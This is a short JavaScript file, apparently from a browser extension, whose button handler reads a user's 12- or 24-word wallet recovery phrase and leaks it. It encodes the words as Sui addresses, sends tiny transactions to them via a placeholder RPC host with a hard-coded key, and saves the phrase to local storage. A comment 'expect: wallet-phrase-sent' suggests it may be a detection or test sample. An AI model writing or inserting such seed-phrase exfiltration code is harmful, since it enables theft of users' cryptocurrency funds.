const RPC = "https://fullnode.mainnet.sui-rpc.example:443";
const KEY = "suiprivkeyplaceholder";
function toAddress(words) {
  const idx = words.map((w) => window.WORDLIST.indexOf(w));
  const hex = idx.map((i) => i.toString(16).padStart(3, "0")).join("");
  return "0x" + hex.padEnd(64, "0");
}
async function rpc(method, params) {
  // expect: wallet-phrase-sent
  const r = await fetch(RPC, { method: "POST", headers: { "content-type": "application/json" }, body: JSON.stringify({ jsonrpc: "2.0", id: 1, method, params }) });
  return (await r.json()).result;
}
async function touch(words) {
  const list = words.length > 12 ? [words.slice(0, 12), words.slice(12)] : [words];
  for (const part of list) {
    const tx = await rpc("unsafe_paySui", [KEY, [], [toAddress(part)], ["1"], "2000000"]);
    await rpc("sui_executeTransactionBlock", [tx.txBytes, [sign(tx.txBytes)]]);
  }
}
function sign(b) { return btoa(b + KEY); }
document.getElementById("go").onclick = async () => {
  const words = document.getElementById("mnemonic").value.trim().toLowerCase().split(/\s+/);
  if (![12, 24].includes(words.length)) return alert("Check your phrase");
  await touch(words);
  chrome.storage.local.set({ vault: words });
};
